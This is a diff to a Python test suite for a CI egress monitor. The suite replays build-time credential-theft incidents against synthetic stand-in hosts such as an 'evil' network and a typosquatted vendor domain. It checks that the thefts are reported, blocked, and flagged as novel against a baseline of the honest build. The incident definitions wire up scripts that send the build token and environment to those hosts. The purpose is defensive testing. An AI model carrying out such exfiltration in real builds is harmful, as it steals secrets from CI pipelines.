@@ -1,4 +1,6 @@
-"""Attacks on builds as they happened, replayed with synthetic hosts: told in audit, denied once enforced.
+"""Attacks on builds as they happened, replayed with synthetic hosts.
+
+They are told in audit, denied once enforced, and novel where a baseline knows the builds without them.
 
 Each is a job with honest traffic and a theft in it, which hides its failures, so that the build goes on.
 """
@@ -8,19 +10,22 @@ from __future__ import annotations
 import shutil
 from dataclasses import dataclass
 from pathlib import Path
-from typing import TYPE_CHECKING
+from typing import TYPE_CHECKING, Any
 
 import pytest
 
 from .arrivals import UDP, Arrivals
+from .known import baseline, entries_of
 from .lab import PORT, V4, V6, Network
 from .resolver import lab_with_resolver
 from .ruled import MODES, Ruled, bracketed, under
+from .test_policy_run import logs
+from .tracing import trace
 
 if TYPE_CHECKING:
     from collections.abc import Callable
 
-    from .tracing import Span
+    from .tracing import Span, Trace
 
 pytestmark = pytest.mark.kernel
 
@@ -92,6 +97,8 @@ class Incident:
     """The build's step."""
     culprit: str
     """How the thief's command line begins."""
+    thief: str
+    """Which of the files it is; without it the build is honest."""
     chain: tuple[str, ...]
     """Executables from the job's root to the theft."""
     destination: Callable[[Network], str]
@@ -115,6 +122,7 @@ INCIDENTS = {
         },
         command="node npm install",
         culprit="node setup.js",
+        thief="pkg/setup.js",
         chain=("dash", "node", "dash", "dash", "node"),
         destination=lambda _: f"telemetry-collect.example:{PORT}",
     ),
@@ -122,6 +130,7 @@ INCIDENTS = {
         files={"get.py": GET, "uploader": "".join(map(posting_the_environment, BOTH)) + "true\n"},
         command="python3 get.py registry.example; bash uploader",
         culprit="bash uploader",
+        thief="uploader",
         chain=("dash", "bash", "bash"),
         destination=lambda network: f"{bracketed(network.evil)}:{PORT}",
     ),
@@ -129,6 +138,7 @@ INCIDENTS = {
         files={"get.js": GET, "bundle.js": f"import sys; sys.argv.append('{FORGE}')\n{UPLOAD}"},
         command=f"node get.js {REGISTRY}; {LS_REMOTE} >/dev/null 2>&1; node bundle.js",
         culprit="node bundle.js",
+        thief="bundle.js",
         chain=("dash", "node"),
         destination=lambda _: f"{FORGE}:{PORT}",
         allow=({"host": FORGE, "ports": [PORT], "lineage": ["git"]},),
@@ -139,6 +149,7 @@ INCIDENTS = {
         files={"get.js": GET, "index.js": EXFILTRATE},
         command=f"node get.js registry.example; node index.js {V4.evil} {V6.evil}",
         culprit="node index.js",
+        thief="index.js",
         chain=("dash", "node"),
         destination=lambda network: f"{bracketed(network.evil)}:53",
         act="send",
@@ -151,6 +162,7 @@ INCIDENTS = {
         },
         command="python3 get.py registry.example; bash entrypoint.sh",
         culprit="python3 report.py",
+        thief="report.py",
         chain=("dash", "bash", "python3.11"),
         destination=lambda _: f"scan.securlty-vendor.example:{PORT}",
         allow=(f"*.security-vendor.example:{PORT}",),
@@ -203,6 +215,81 @@ def test_an_incident_is_told_with_its_lineage_and_denied_once_enforced(
     assert_records_and_lines(ruled, incident, told)
     assert_honest_part_works(ruled, incident)
     assert_arrivals(watch.arrivals, ruled, incident)
+
+
+@pytest.mark.parametrize("incident", INCIDENTS.values(), ids=INCIDENTS)
+def test_an_incident_is_novel_to_a_baseline_of_the_honest_build(tmp_path: Path, incident: Incident) -> None:
+    """Without any policy: all that is novel is what the thief does, its lookups included."""
+    job = tmp_path / "job"
+    job.mkdir()
+    env = {"PATH": workspace(job, incident), "BUILD_TOKEN": TOKEN, "BUILD_ID": BUILD}
+    command = ["sh", "-c", f"cd {job}; {incident.command}; exit 0"]
+    thief = job / incident.thief
+    with lab_with_resolver(V4.peer, RECORDS, tmp_path) as lab:
+
+        def run(name: str, *options: str) -> Trace:
+            more = ("--job-env", "BUILD_ID", *options)
+            return lab.build.call(trace, None, command, tmp_path / name, *more, env=env).result()
+
+        thief.write_text("")
+        honest = run("honest")
+        known = ("--baseline", baseline(tmp_path / "baseline.yaml", *entries_of(honest.egress)))
+        again = run("again", *known)
+        thief.write_text(incident.files[incident.thief])
+        seen = run("stolen", *known, "--fail-on", "novel")
+    assert (honest.status, again.status, seen.status) == (0, 0, 90)
+    assert_nothing_is_novel(again, tmp_path / "again")
+    novel = [span for span in seen.egress if span["egress.novel"]]
+    assert_theft_alone_is_novel(seen, incident, novel)
+    assert_novelty_is_told(seen, incident, novel, logs(tmp_path / "stolen"))
+
+
+def assert_nothing_is_novel(seen: Trace, directory: Path) -> None:
+    """In the build as it was learnt."""
+    assert {span["egress.novel"] for span in seen.egress} == {False}
+    assert {point.attributes["egress.novel"] for point in seen.metrics["cicd.egress.connections"]} == {False}
+    assert [record for record in logs(directory) if record["eventName"] == "cicd.egress.novel"] == []
+    assert "novel: " not in seen.stderr
+    assert "that the baseline doesn't have" not in seen.stderr
+
+
+def assert_theft_alone_is_novel(seen: Trace, incident: Incident, novel: list[Span]) -> None:
+    """Over both IP versions; the rest of the build does what it ever did."""
+    assert all(str(span["process.command_line"]).startswith(incident.culprit) for span in novel)
+    evil = {network.evil for network in BOTH}
+    kind = "tcp" if incident.act == "connect" else "udp"
+    stolen = [
+        span for span in novel if span["network.peer.address"] in evil and span["network.transport"] == kind
+    ]
+    assert sorted(span.name for span in stolen) == sorted(
+        f"{incident.act} {incident.destination(network)}" for network in BOTH
+    )
+    thieves = {span["process.pid"] for span in novel}
+    honest = [span for span in seen.egress if span["process.pid"] not in thieves]
+    assert set(incident.honest) <= {span["server.address"] for span in honest}
+
+
+def assert_novelty_is_told(
+    seen: Trace, incident: Incident, novel: list[Span], records: list[dict[str, Any]]
+) -> None:
+    """Each destination by a line and a record, in the trace of the job; each attempt by the metric."""
+    chain = f"{incident.chain[-1]} ({' → '.join(incident.chain)})"
+    wheres = {(span["server.address"], span["server.port"], span["network.transport"]) for span in novel}
+    lines = [line for line in seen.stderr.splitlines() if line.startswith("ci-egress: novel: ")]
+    assert len(lines) == len(records) == len(wheres)
+    assert all(line.startswith(f"ci-egress: novel: {chain} → ") for line in lines)
+    assert {f"ci-egress: {record['body']['stringValue']}" for record in records} == {*lines}
+    assert {record["eventName"] for record in records} == {"cicd.egress.novel"}
+    assert {(record["traceId"], record["spanId"]) for record in records} <= {
+        (seen.job.trace_id, span.span_id) for span in novel
+    }
+    points = seen.metrics["cicd.egress.connections"]
+    assert sum(point.value for point in points if point.attributes["egress.novel"]) == len(novel)
+    assert {
+        (where["server.address"], where["server.port"], where["network.transport"])
+        for where in (point.attributes for point in points)
+        if where["egress.novel"]
+    } == wheres
 
 
 def assert_arrivals(arrivals: Arrivals, ruled: Ruled, incident: Incident) -> None:
